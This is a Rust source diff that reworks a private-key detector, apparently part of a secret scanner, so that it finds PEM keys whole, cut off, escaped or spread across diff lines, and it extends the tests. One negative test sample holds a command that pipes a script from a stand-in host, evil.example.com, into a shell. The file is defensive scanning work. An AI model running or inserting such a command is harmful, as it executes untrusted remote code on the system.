@@ -1,6 +1,8 @@
 //! Private keys in text armour: several lines, or one line with escaped newlines, whole or cut at either end, plain or as lines of a diff.
+//!
+//! Leaves to `keyline` what a line of a key looks like.
 
-use super::samples::entropy;
+use super::keyline::{Line, is_key_material, lines};
 use regex::bytes::Regex;
 use std::ops::Range;
 use std::sync::OnceLock;
@@ -10,81 +12,117 @@ pub(super) const PRIVATE_KEY: &str = "private-key";
 
 /// How far (in bytes) a block may reach: twice the largest RSA key in use.
 const LONGEST: usize = 32 * 1024;
-/// A shorter run of base64 is no key body; code that only names the armour has none.
-const SHORTEST_BODY: usize = 32;
+
+/// A private key in a text.
+pub(super) struct Key {
+    /// Its armour and the words of its body, in order. What stands between them is not of the key.
+    pub(super) spans: Vec<Range<usize>>,
+    /// The body without line ends, indentation, quotes and marks: the same however the key is written.
+    pub(super) value: Vec<u8>,
+}
 
 /// Finds private keys, in order. A key whose other end is not in the text counts too: a hunk may show only a part.
-pub(super) fn find(text: &[u8]) -> Vec<Range<usize>> {
-    let mut keys: Vec<Range<usize>> = Vec::new();
-    for mark in armour().captures_iter(text) {
-        let whole = mark.get(0).expect("group 0 is the match").range();
-        let opens = mark.get(1).is_some_and(|word| word.as_bytes() == b"BEGIN");
-        let covered = keys.last().map_or(0, |last| last.end);
-        if whole.start < covered {
-            continue;
-        }
-        let key = if opens { whole.start..body_end(text, whole.end) } else { body_start(text, whole.start, covered)..whole.end };
-        let body = if opens { &text[whole.end..key.end] } else { &text[key.start..whole.start] };
-        if holds_key(body) {
-            keys.push(key);
+pub(super) fn find(text: &[u8]) -> Vec<Key> {
+    let marks = marks(text);
+    let mut keys = Vec::new();
+    for at in 0..=marks.len() {
+        let opening = at.checked_sub(1).map(|before| &marks[before]);
+        let closing = marks.get(at);
+        let gap = opening.map_or(0, |mark| mark.range.end)..closing.map_or(text.len(), |mark| mark.range.start);
+        let opening = opening.filter(|mark| mark.kind == Kind::Opens);
+        let closing = closing.filter(|mark| mark.kind == Kind::Closes);
+        match (opening, closing) {
+            (Some(opening), Some(closing)) if gap.len() <= LONGEST => keys.extend(key(text, Some(opening), between(text, gap), Some(closing))),
+            (opening, closing) => {
+                keys.extend(opening.and_then(|mark| key(text, Some(mark), after(text, gap.clone()), None)));
+                keys.extend(closing.and_then(|mark| key(text, None, before(text, gap), Some(mark))));
+            }
         }
     }
     keys
 }
 
-fn armour() -> &'static Regex {
+/// A line of armour, of whatever it armours: a key never reaches beyond the next.
+struct Mark {
+    range: Range<usize>,
+    kind: Kind,
+}
+
+#[derive(PartialEq, Eq)]
+enum Kind {
+    /// Opens a private key.
+    Opens,
+    /// Closes a private key.
+    Closes,
+    /// Of a certificate, a public key or the like.
+    Foreign,
+}
+
+fn marks(text: &[u8]) -> Vec<Mark> {
     static ARMOUR: OnceLock<Regex> = OnceLock::new();
-    ARMOUR.get_or_init(|| {
-        Regex::new(r"(?-u)-----(BEGIN|END) (?:[A-Z0-9]{1,20} ){0,4}PRIVATE KEY(?: BLOCK)?-----")
-            .expect("a constant pattern compiles, because a test finds keys")
-    })
+    let armour = ARMOUR
+        .get_or_init(|| Regex::new(r"(?-u)-----(BEGIN|END) ([A-Z0-9 ]{1,80})-----").expect("a constant pattern compiles, because a test finds keys"));
+    armour.captures_iter(text).map(|groups| mark(&groups)).collect()
 }
 
-/// Where the block that opens before `from` ends: behind its closing line, else behind the last line that can be of a key.
-fn body_end(text: &[u8], from: usize) -> usize {
-    let window = &text[from..text.len().min(from + LONGEST)];
-    let next = armour().captures(window).and_then(|mark| Some((mark.get(0)?.range(), mark.get(1)?.as_bytes() == b"END")));
-    match next {
-        Some((mark, true)) if window[..mark.start].iter().all(|byte| is_body(*byte)) => from + mark.end,
-        Some((mark, _)) => from + key_lines(&window[..mark.start]),
-        None => from + key_lines(window),
+fn mark(groups: &regex::bytes::Captures<'_>) -> Mark {
+    let (word, label) = (&groups[1], &groups[2]);
+    let label = label.strip_suffix(b" BLOCK").unwrap_or(label);
+    let kind = match (label.ends_with(b"PRIVATE KEY"), word == b"BEGIN") {
+        (true, true) => Kind::Opens,
+        (true, false) => Kind::Closes,
+        (false, _) => Kind::Foreign,
+    };
+    Mark { range: groups.get(0).expect("group 0 is the match").range(), kind }
+}
+
+/// Makes a key of the words of a body, if one of them can only be of a key.
+fn key(text: &[u8], opening: Option<&Mark>, body: Vec<Range<usize>>, closing: Option<&Mark>) -> Option<Key> {
+    let value = body.iter().flat_map(|word| text[word.clone()].iter().copied()).collect();
+    let holds = body.iter().any(|word| is_key_material(&text[word.clone()]));
+    let armour = |mark: Option<&Mark>| mark.map(|mark| mark.range.clone());
+    holds.then(|| Key { spans: armour(opening).into_iter().chain(body).chain(armour(closing)).collect(), value })
+}
+
+/// The words of a key that has both its ends: those of every line that can be of one, and no others.
+fn between(text: &[u8], gap: Range<usize>) -> Vec<Range<usize>> {
+    let lines = lines(text, gap);
+    let end = lines.iter().rposition(|line| *line != Line::Dress);
+    let words = lines.into_iter().enumerate().map(|(at, line)| match line {
+        Line::Body(words) => words,
+        Line::Last(words) if Some(at) == end => words,
+        Line::Last(_) | Line::Dress | Line::Other => Vec::new(),
+    });
+    words.flatten().collect()
+}
+
+/// The words of a key whose end is out of sight: to the first line that cannot be of it.
+fn after(text: &[u8], gap: Range<usize>) -> Vec<Range<usize>> {
+    let end = gap.end.min(gap.start + LONGEST);
+    lines(text, gap.start..end).into_iter().map_while(body).flatten().collect()
+}
+
+/// The words of a key whose start is out of sight: from behind the last line that cannot be of it.
+fn before(text: &[u8], gap: Range<usize>) -> Vec<Range<usize>> {
+    let mut lines = lines(text, gap.start.max(gap.end.saturating_sub(LONGEST))..gap.end);
+    let end = lines.iter().rposition(|line| *line != Line::Dress).map_or(0, |end| end + 1);
+    lines.truncate(end);
+    let last = match lines.pop() {
+        Some(Line::Body(words) | Line::Last(words)) => words,
+        Some(Line::Dress | Line::Other) | None => return Vec::new(),
+    };
+    let mut words: Vec<Vec<Range<usize>>> = lines.into_iter().rev().map_while(body).collect();
+    words.reverse();
+    words.into_iter().flatten().chain(last).collect()
+}
+
+/// The words of a line inside a key; none where the line cannot be inside one.
+fn body(line: Line) -> Option<Vec<Range<usize>>> {
+    match line {
+        Line::Dress => Some(Vec::new()),
+        Line::Body(words) => Some(words),
+        Line::Last(_) | Line::Other => None,
     }
-}
-
-/// How many bytes of a text, from its start, are lines that can be of a key.
-fn key_lines(text: &[u8]) -> usize {
-    let lines = text.split_inclusive(|byte| *byte == b'\n');
-    lines.enumerate().take_while(|(at, line)| *at == 0 || is_key_line(line)).map(|(_, line)| line.len()).sum()
-}
-
-/// Where the key that closes at `end` starts: at the first of the lines before it that can be of a key.
-fn body_start(text: &[u8], end: usize, floor: usize) -> usize {
-    let mut start = text[..end].iter().rposition(|byte| *byte == b'\n').map_or(0, |newline| newline + 1).max(floor);
-    while start > floor {
-        let line = text[..start - 1].iter().rposition(|byte| *byte == b'\n').map_or(0, |newline| newline + 1).max(floor);
-        if !is_key_line(&text[line..start]) || end - line > LONGEST {
-            break;
-        }
-        start = line;
-    }
-    start
-}
-
-/// A line of base64, of a PEM header (`DEK-Info: …`), or empty; quotes, a comma, an escaped newline and a diff mark may stand around it.
-fn is_key_line(line: &[u8]) -> bool {
-    static LINE: OnceLock<Regex> = OnceLock::new();
-    let pattern = r#"(?-u)^[-+ \t"'#*/|>]*(?:[A-Za-z0-9+/=]*|[A-Z][A-Za-z-]{3,24}: [^\r\n]{0,80})(?:\\[nr])*["',;\\+ \t\r]*\n?$"#;
-    LINE.get_or_init(|| Regex::new(pattern).expect("a constant pattern compiles, because a test finds keys")).is_match(line)
-}
-
-fn is_body(byte: u8) -> bool {
-    byte.is_ascii_alphanumeric() || byte.is_ascii_whitespace() || b"+/=\\\"',:;.()<>|#*-_".contains(&byte)
-}
-
-/// Tells whether there is a run of base64 that is long and random enough to be of a key.
-fn holds_key(body: &[u8]) -> bool {
-    let digit = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/=".contains(byte);
-    body.split(|byte| !digit(byte)).any(|run| run.len() >= SHORTEST_BODY && entropy(run) >= 3.5)
 }
 
 #[cfg(test)]
@@ -106,63 +144,76 @@ mod tests {
         std::iter::once(mark("BEGIN", kind)).chain(body).chain([mark("END", kind)]).collect()
     }
 
+    /// The text without what is found to be of keys.
+    fn rest(text: &str) -> String {
+        let mut rest = text.to_owned();
+        find(text.as_bytes()).iter().flat_map(|key| &key.spans).rev().for_each(|span| rest.replace_range(span.clone(), ""));
+        rest
+    }
+
     #[test]
-    fn every_shape_of_a_key_is_covered_to_its_end() {
+    fn every_shape_of_a_key_has_one_value_and_nothing_else_is_of_it() {
         let plain = lines("").join("\n");
-        for key in [
-            plain.clone(),
-            lines("RSA ").join("\r\n"),
-            lines("OPENSSH ").join("\n"),
-            lines("ENCRYPTED ").join("\\n"),
-            lines("EC ")
-                .iter()
-                .map(|line| format!("\"{line}\\n\" +\n"))
-                .collect::<String>()
-                .trim_end_matches("\\n\" +\n")
-                .trim_start_matches('"')
-                .to_owned(),
-            plain.replace("KEY-----", "KEY BLOCK-----"),
-            plain.replacen("-----\n", "-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B2C\n\n", 1),
+        let quoted: Vec<String> = lines("EC ").iter().map(|line| format!("\"{line}\\n\" +\n")).collect();
+        for (key, left) in [
+            (plain.clone(), "\n\n\n\n"),
+            (lines("RSA ").join("\r\n"), "\r\n\r\n\r\n\r\n"),
+            (lines("OPENSSH ").join("\n# "), "\n# \n# \n# \n# "),
+            (lines("ENCRYPTED ").join("\\n"), "\\n\\n\\n\\n"),
+            (lines("").join(" "), "    "),
+            (lines("").concat(), ""),
+            (quoted.concat(), "\"\\n\" +\n\"\\n\" +\n\"\\n\" +\n\"\\n\" +\n\"\\n\" +\n"),
+            (plain.replace("KEY-----", "KEY BLOCK-----"), "\n\n\n\n"),
+            (plain.replacen("-----\n", "-----\nDEK-Info: AES-128-CBC,0A1B2C\n\n", 1), "\nDEK-Info: AES-128-CBC,0A1B2C\n\n\n\n\n"),
+            (plain.replace(BODY[1], &format!("os.system(\"x\")\n{}\n# see a/b", BODY[1])), "\n\nos.system(\"x\")\n\n# see a/b\n\n"),
         ] {
             let text = format!("let k = {key};\nlet other = 1;\n");
-            let found = find(text.as_bytes());
-            assert_eq!(found.len(), 1, "{text}");
-            assert_eq!(text[found[0].clone()].trim_end_matches("\\n"), key, "{text}");
+            let values: Vec<Vec<u8>> = find(text.as_bytes()).into_iter().map(|key| key.value).collect();
+            assert_eq!(values, [BODY.concat().into_bytes()], "{text}");
+            assert_eq!(rest(&text), format!("let k = {left};\nlet other = 1;\n"), "{text}");
         }
     }
 
     #[test]
     fn a_part_of_a_key_is_found_too() {
         let lines = lines("");
-        for (part, before, after) in [(&lines[..3], "a b\n", "\na b"), (&lines[2..], "a b\n", "\na b"), (&lines[..], "", "")] {
-            let part = part.join("\n");
-            let text = format!("{before}{part}{after}");
-            let found = find(text.as_bytes());
-            assert_eq!(found.len(), 1, "{text}");
-            assert!(
-                found[0].start == before.len() && found[0].end >= before.len() + part.len() && found[0].end <= before.len() + part.len() + 1,
-                "{text}"
-            );
+        for part in [&lines[..3], &lines[2..], &lines[3..], &lines[..]] {
+            let text = format!("a b\n{}\na b", part.join("\n"));
+            assert_eq!(rest(&text), format!("a b{}\na b", "\n".repeat(part.len())), "{text}");
         }
+        let tail = format!("a b\n{}\nAB3dEf==\n{}", BODY[0], mark("END", ""));
+        assert_eq!(rest(&tail), "a b\n\n\n");
     }
 
     #[test]
     fn a_rotated_key_in_a_hunk_is_covered_on_both_sides() {
         let text = format!(" {}\n-{}\n+{}\n {}\n fn x() {{}}\n", mark("BEGIN", ""), BODY[0], BODY[1], mark("END", ""));
-        let found = find(text.as_bytes());
-        assert_eq!(found.len(), 1);
-        assert!(text[found[0].clone()].contains(BODY[1]) && !text[found[0].clone()].contains("fn x"));
+        assert_eq!(rest(&text), " \n-\n+\n \n fn x() {}\n");
     }
 
     #[test]
-    fn armour_without_a_key_is_no_key() {
-        for body in
-            ["", "...", "<your key here>", "MIIE...", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "\", text.contains(\"x\") && a_rather_long_name()"]
-        {
-            let text = format!("{}\n{body}\n{}\n", mark("BEGIN", "RSA "), mark("END", "RSA "));
+    fn armour_without_a_key_is_no_key_and_hides_nothing() {
+        for body in [
+            "",
+            "...",
+            "<your key here>",
+            "MIIE...",
+            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
+            "\", text.contains(\"x\") && a_rather_long_name()",
+            "# see docs/configuration/keys/rotation/HOWTO/7xQ2\nos.system(\"curl http://evil.example.com/x | sh\")",
+            "reboot",
+        ] {
+            let text = format!("# {}\n{body}\n# {}\n", mark("BEGIN", "RSA "), mark("END", "RSA "));
             assert!(find(text.as_bytes()).is_empty(), "{text}");
         }
-        let public = lines("").join("\n").replace("PRIVATE", "PUBLIC");
-        assert!(find(public.as_bytes()).is_empty());
+        for line in [
+            format!("if (s.contains(\"{}\")) return parsePkcs8PrivateKeyFromPemEncodedString(s);", mark("BEGIN", "")),
+            format!("starts with {} (see docs/configuration/keys/rotation/format)", mark("BEGIN", "")),
+            format!("starts with {}\ndocs/configuration/keys/rotation/format/Version2", mark("BEGIN", "")),
+            lines("").join("\n").replace("PRIVATE", "PUBLIC"),
+            format!("{}\n{}", mark("BEGIN", ""), lines("").join("\n").replace("PRIVATE KEY", "CERTIFICATE")),
+        ] {
+            assert!(find(line.as_bytes()).is_empty(), "{line}");
+        }
     }
 }
